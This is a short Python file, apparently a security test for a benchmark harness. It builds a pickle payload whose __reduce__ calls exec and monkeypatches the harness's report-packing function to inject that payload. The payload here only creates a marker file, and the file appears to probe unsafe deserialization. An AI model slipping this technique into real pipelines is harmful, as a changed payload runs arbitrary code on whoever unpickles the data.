import pickle
import sys


class Bomb:
    def __reduce__(self):
        return exec, ("open('/tmp/biomlbench-pickle-ran', 'w').close()",)


def attack():
    calls = sys.modules["inside.calls"]
    pack = calls.pack
    calls.pack = lambda report, _: pack(report, pickle.dumps(Bomb()))
    return 1
